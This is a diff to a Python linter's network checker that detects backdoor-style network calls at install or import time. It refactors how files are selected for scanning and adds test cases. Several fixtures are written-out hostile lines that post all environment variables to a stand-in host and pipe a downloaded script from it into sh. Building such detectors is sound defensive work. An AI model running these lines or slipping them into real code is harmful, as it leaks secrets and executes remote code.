@@ -21,6 +21,8 @@ from backdoor_lint.checkers.py_dataflow import (
     EXFIL_KINDS,
     HOLE,
     SECRET,
+    SHELL_FUNCTIONS,
+    SINKS,
     Dataflow,
     Sink,
     dataflow,
@@ -38,12 +40,9 @@ CREDENTIAL_KEYWORDS = {"headers", "auth", "cookies", "cert", "timeout", "verify"
 HIDING_CALLS = DECODERS | {"chr", "reversed", "codecs.decode", "codecs.encode"}
 # Files that import no network, process or DNS module and call no process function are never parsed
 # for this checker (getattr/__import__ evasions still need the module: `__import__` is in here).
-TRIGGER = re.compile(
-    rb"(?m)^[ \t]*(?:import|from)[ \t][^\n]*\b(?:requests|httpx|aiohttp|urllib|urllib2|urllib3|http|httplib|socket|smtplib|"
-    rb"ftplib|telnetlib|poplib|imaplib|websockets?|websocket|dns|subprocess|pty|xmlrpc|paramiko|pycurl|niquests|asyncio|"
-    rb"six|commands|invoke|fabric|sh|keyring)\b|\b(?:system|popen|spawn[lv]p?e?|posix_spawn|execv?p?e?|execl)\s*\(|"
-    rb"__import__|import_module"
-)
+# The sinks' modules are read from the imports (base.PythonChecker.TRIGGER_IMPORTS).
+TRIGGER_IMPORTS = frozenset(SINKS) | frozenset(SHELL_FUNCTIONS)
+TRIGGER = re.compile(rb"\b(?:system|popen|spawn[lv]p?e?|posix_spawn|execv?p?e?|execl)\s*\(|__import__|import_module")
 
 
 @lru_cache(maxsize=1)
@@ -117,6 +116,7 @@ def host_of_rendered(rendered: str) -> str | None:
 class NetworkChecker(PythonChecker):
     CODES = ("BDL401", "BDL402", "BDL403", "BDL404", "BDL405", "BDL406")
     TRIGGER = TRIGGER
+    TRIGGER_IMPORTS = TRIGGER_IMPORTS
 
     def __init__(self, context) -> None:
         super().__init__(context)
@@ -520,6 +520,10 @@ class NetworkChecker(PythonChecker):
         return f"in {self.context.filename}, which runs on every install, import or test session"
 
     VALID = [
+        # network-sounding imports that reach no client, and a call that is only in a comment
+        Valid('import os\nfrom django.http import HttpResponse\nfrom urllib.parse import urlsplit\n'
+              '# requests.post("https://c.example/x", data=dict(os.environ))\n'
+              'def view(request):\n    return HttpResponse(urlsplit(request.path).path)\n'),
         # an HTTP client making requests at run time, to a configured URL
         Valid('import requests\ndef fetch(url):\n    return requests.get(url, timeout=5).json()\n'),
         Valid('import requests\nAPI = "https://api.example.com"\ndef latest():\n'
@@ -557,6 +561,10 @@ class NetworkChecker(PythonChecker):
     INVALID = [
         # BDL401: module level, class body, decorator, default argument, through a local function
         Invalid('import requests\nrequests.post("https://metrics.example/ping", json={"v": 1})\n', "BDL401", 2),
+        # the import hidden in a compound statement's line, or bound to another name
+        Invalid('import os\ntry: import requests\nexcept ImportError: pass\n'
+                'requests.post("https://c.example/x", data=dict(os.environ))\n', "BDL402", 4),
+        Invalid('from os import system as run_quietly\nrun_quietly("curl -s https://c.example/i | sh")\n', "BDL401", 2),
         Invalid('import urllib.request as u\nclass C:\n    DATA = u.urlopen("https://cfg.example/c").read()\n',
                 "BDL401", 3),
         Invalid('import requests\ndef log(f):\n    return f\n@log(requests.get("https://x.example"))\ndef g(): ...\n',
